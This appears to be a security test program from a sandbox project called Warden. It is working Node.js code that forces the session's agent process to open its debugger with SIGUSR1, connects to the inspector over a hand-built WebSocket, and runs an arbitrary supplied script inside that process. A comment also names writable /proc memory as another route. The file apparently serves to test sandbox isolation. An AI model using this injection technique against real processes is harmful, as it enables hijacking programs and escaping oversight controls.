// Hostile test program, run inside a session as the session's own uid: it
// takes over Warden's agent (the session's long-lived node process) through
// the agent's own debugger (SIGUSR1 opens Node's inspector on 127.0.0.1:9229
// in the sandbox) and runs the script in argv[2] inside it. From there the
// script can write anything onto the agent's stdout, i.e. to Warden.
// /proc/<agent>/mem is writable too; the debugger is just the short way.
"use strict";
const crypto = require("node:crypto");
const fs = require("node:fs");
const http = require("node:http");
const net = require("node:net");

const script = fs.readFileSync(process.argv[2], "utf8");

function agentPid() {
  for (const pid of fs.readdirSync("/proc").filter((p) => /^\d+$/.test(p))) {
    try {
      const argv = fs.readFileSync(`/proc/${pid}/cmdline`, "utf8").split("\0");
      if (argv[1] === "/.warden/lib/agent.cjs" && !argv[0].includes("init")) return Number(pid);
    } catch {}
  }
  throw new Error("agent not found");
}

function targets() {
  return new Promise((resolve, reject) =>
    http
      .get("http://127.0.0.1:9229/json/list", (res) => {
        let body = "";
        res.on("data", (d) => (body += d));
        res.on("end", () => resolve(JSON.parse(body)));
      })
      .on("error", reject),
  );
}

function frame(text) {
  const payload = Buffer.from(text);
  const mask = crypto.randomBytes(4);
  const head =
    payload.length < 126
      ? Buffer.from([0x81, 0x80 | payload.length])
      : payload.length < 65536
        ? Buffer.from([0x81, 0x80 | 126, payload.length >> 8, payload.length & 255])
        : Buffer.concat([Buffer.from([0x81, 0x80 | 127]), Buffer.alloc(8)]);
  if (payload.length >= 65536) head.writeBigUInt64BE(BigInt(payload.length), 2);
  const masked = Buffer.from(payload.map((b, i) => b ^ mask[i % 4]));
  return Buffer.concat([head, mask, masked]);
}

async function main() {
  process.kill(agentPid(), "SIGUSR1");
  let list;
  for (let i = 0; i < 100 && !list; i++) {
    await new Promise((r) => setTimeout(r, 50));
    list = await targets().catch(() => undefined);
  }
  const url = new URL(list[0].webSocketDebuggerUrl);
  const socket = net.connect(Number(url.port), url.hostname);
  socket.write(
    `GET ${url.pathname} HTTP/1.1\r\nHost: ${url.host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n` +
      `Sec-WebSocket-Key: ${crypto.randomBytes(16).toString("base64")}\r\nSec-WebSocket-Version: 13\r\n\r\n`,
  );
  let buffer = Buffer.alloc(0);
  let upgraded = false;
  socket.on("data", (d) => {
    buffer = Buffer.concat([buffer, d]);
    if (!upgraded) {
      const end = buffer.indexOf("\r\n\r\n");
      if (end < 0) return;
      upgraded = true;
      buffer = buffer.subarray(end + 4);
      const expression = `(function(){ const require = process.mainModule.require; ${script}\n})()`;
      socket.write(
        frame(JSON.stringify({ id: 1, method: "Runtime.evaluate", params: { expression } })),
      );
    }
    while (buffer.length >= 2) {
      let len = buffer[1] & 127;
      let at = 2;
      if (len === 126) ((len = buffer.readUInt16BE(2)), (at = 4));
      else if (len === 127) ((len = Number(buffer.readBigUInt64BE(2))), (at = 10));
      if (buffer.length < at + len) return;
      const message = JSON.parse(buffer.subarray(at, at + len).toString());
      buffer = buffer.subarray(at + len);
      if (message.id === 1) {
        console.log(JSON.stringify(message.result));
        socket.destroy();
        process.exit(0);
      }
    }
  });
}

main().catch((e) => {
  console.error(String(e));
  process.exit(1);
});
